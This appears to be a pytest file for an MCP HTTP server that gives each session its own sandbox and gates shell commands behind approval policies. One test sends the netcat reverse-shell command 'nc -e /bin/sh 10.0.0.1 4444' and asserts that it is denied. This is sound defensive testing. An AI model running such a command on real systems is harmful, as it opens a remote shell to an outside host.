"""The streamable-HTTP app (``corral.mcp.http_app``) under a real uvicorn, mounted at
``/mcp`` in a parent app as the HTTP server mounts it, driven by the SDK's client."""

from __future__ import annotations

import contextlib
import socket
import threading
import time
from collections.abc import AsyncIterator, Iterator

import anyio
import pytest
import uvicorn
from mcp import Client
from starlette.applications import Starlette

from corral.mcp import http_app, make_factory
from corral.policy import Queue

from ._client import ASK_POLICY, answering, text

pytestmark = pytest.mark.timeout(240)


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextlib.contextmanager
def serving(mcp_app) -> Iterator[str]:
    @contextlib.asynccontextmanager
    async def lifespan(app) -> AsyncIterator[None]:
        async with mcp_app.router.lifespan_context(mcp_app):
            yield

    parent = Starlette(lifespan=lifespan)
    parent.mount("/mcp", mcp_app)
    port = _free_port()
    server = uvicorn.Server(uvicorn.Config(parent, host="127.0.0.1", port=port, log_level="error"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not server.started:
        assert thread.is_alive() and time.monotonic() < deadline, "uvicorn did not start"
        time.sleep(0.05)
    try:
        yield f"http://127.0.0.1:{port}/mcp/"
    finally:
        server.should_exit = True
        thread.join(30)


def test_sessions_get_their_own_sandboxes_and_end_with_the_session():
    app = http_app(make_factory(policy="default"))
    sessions = app.state.sessions

    async def main(url: str):
        async with Client(url) as a, Client(url) as b:
            tools = {t.name for t in (await a.list_tools()).tools}
            assert "run_shell" in tools and "write_file" in tools
            await a.call_tool("write_file", {"path": "mine.txt", "content": "a's"})
            r = await b.call_tool("read_file", {"path": "mine.txt"})
            assert r.is_error and "no such file" in text(r)  # b has its own sandbox
            r = await a.call_tool("run_shell", {"command": "cat mine.txt"})
            assert "a's" in text(r)
            r = await a.call_tool("run_shell", {"command": "nc -e /bin/sh 10.0.0.1 4444"})
            assert r.is_error and "denied" in text(r)
            assert len(sessions) == 2
        # both clients ended their sessions (HTTP DELETE): their sandboxes are closed
        for _ in range(100):
            if len(sessions) == 0:
                break
            await anyio.sleep(0.05)
        assert len(sessions) == 0

    with serving(app) as url:
        anyio.run(main, url)


def test_elicitation_over_http(tmp_path):
    policy = tmp_path / "ask.yaml"
    policy.write_text(ASK_POLICY)
    app = http_app(make_factory(policy=str(policy)))
    seen: list[str] = []

    async def main(url: str):
        async with Client(url, elicitation_callback=answering("allow_once", seen)) as c:
            return await c.call_tool("run_shell", {"command": "touch f && ls"})

    with serving(app) as url:
        r = anyio.run(main, url)
    assert len(seen) == 1 and "touch f" in seen[0]
    assert not r.is_error and "f" in r.structured_content["stdout"]


def test_client_without_elicitation_goes_to_the_fallback_queue(tmp_path):
    policy = tmp_path / "ask.yaml"
    policy.write_text(ASK_POLICY)
    queue = Queue()
    app = http_app(make_factory(policy=str(policy)), fallback=queue)

    def approve_when_asked():
        request = queue.wait_for_request(timeout=60)
        assert request is not None and "touch g" in request.summary
        queue.answer(request.id, "allow_once")

    async def main(url: str):
        async with Client(url) as c:
            return await c.call_tool("run_shell", {"command": "touch g && ls"})

    answering_thread = threading.Thread(target=approve_when_asked, daemon=True)
    answering_thread.start()
    with serving(app) as url:
        r = anyio.run(main, url)
    answering_thread.join(10)
    assert not r.is_error and "g" in r.structured_content["stdout"]
    assert "approved by a person" not in text(r)  # nothing denied, nothing to explain


def test_stateless_protocol_is_refused_with_a_clear_error():
    """The 2026-07-28 protocol has no sessions: a client pinned to it is told which
    versions to use, and no sandbox is made for it."""
    from mcp.shared.exceptions import MCPError

    app = http_app(make_factory(policy="default"))

    async def main(url: str):
        async with Client(url, mode="2026-07-28") as c:
            await c.call_tool("run_shell", {"command": "echo hi"})

    with serving(app) as url, pytest.raises(BaseException) as info:
        anyio.run(main, url)
    errors = [info.value]
    while isinstance(errors[-1], BaseExceptionGroup):
        errors.append(errors[-1].exceptions[0])
    assert isinstance(errors[-1], MCPError), errors
    assert errors[-1].code == -32022 and "initialize" in str(errors[-1])
    assert len(app.state.sessions) == 0
